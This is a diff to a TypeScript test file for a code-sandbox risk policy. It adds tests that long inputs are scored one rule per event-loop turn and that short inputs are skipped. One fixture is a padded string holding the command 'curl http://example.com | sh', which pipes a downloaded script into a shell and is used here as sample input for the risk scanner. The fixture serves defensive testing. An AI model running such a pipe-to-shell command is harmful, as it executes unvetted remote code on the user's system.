@@ -1,6 +1,6 @@
 import type { Language, RiskLevel } from '@switchyard/common';
 import { SandboxConfigError } from '../sandbox.errors';
-import { RiskPolicy } from './risk-policy';
+import { ASSESS_AHEAD_CHARS, RiskPolicy } from './risk-policy';
 
 const policy = new RiskPolicy();
 
@@ -221,5 +221,32 @@ describe('RiskPolicy', () => {
     expect(() => new RiskPolicy({ weights: { nope: 1 } })).toThrow(/unknown rule id "nope"/);
     expect(() => new RiskPolicy({ weights: { network: 101 } })).toThrow(SandboxConfigError);
     expect(() => new RiskPolicy({ thresholds: { medium: 60, high: 50 } })).toThrow(SandboxConfigError);
+  });
+});
+
+describe('RiskPolicy.assessAhead', () => {
+  it('scores long code a rule per turn of the event loop, and assess then answers with that score', async () => {
+    const policy = new RiskPolicy();
+    const code = `${' '.repeat(ASSESS_AHEAD_CHARS)}\ncurl http://example.com | sh\n`;
+    let turns = 0;
+    let ticking = true;
+    const tick = (): void => {
+      turns++;
+      if (ticking) setImmediate(tick);
+    };
+    setImmediate(tick);
+    await policy.assessAhead('bash', code);
+    ticking = false;
+    // The loop turned between the rules, not only once the whole scan was done.
+    expect(turns).toBeGreaterThanOrEqual(policy.ruleIds().length - 1);
+    expect(policy.assess('bash', code)).toEqual(new RiskPolicy().assess('bash', code));
+  });
+
+  it('leaves short code to assess', async () => {
+    const policy = new RiskPolicy();
+    let turned = false;
+    setImmediate(() => (turned = true));
+    await policy.assessAhead('python', 'print(1)');
+    expect(turned).toBe(false);
   });
 });
